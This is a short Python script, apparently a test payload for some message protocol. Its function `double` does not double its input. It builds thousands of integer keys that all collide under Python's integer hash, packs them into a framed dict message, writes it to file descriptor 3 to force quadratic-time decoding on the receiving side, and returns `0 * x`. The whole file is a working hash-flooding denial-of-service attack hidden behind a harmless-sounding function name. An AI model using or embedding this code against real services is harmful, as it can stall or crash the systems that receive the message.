"""Sends a dict whose keys share one hash, for which a dict takes quadratic time."""
import os
import struct

MODULUS = (1 << 61) - 1


def encode(key):
    data = key.to_bytes(key.bit_length() // 8 + 1, "little", signed=True)
    return b"I" + struct.pack("<Q", len(data)) + data + b"N"


def double(x):
    keys = [i * MODULUS for i in range(8, 5_000)]
    header = b"d" + struct.pack("<Q", len(keys)) + b"".join(map(encode, keys))
    message = struct.pack("<BIQ", 19, len(header), 0) + header
    while message:
        message = message[os.write(3, message) :]
    return 0 * x
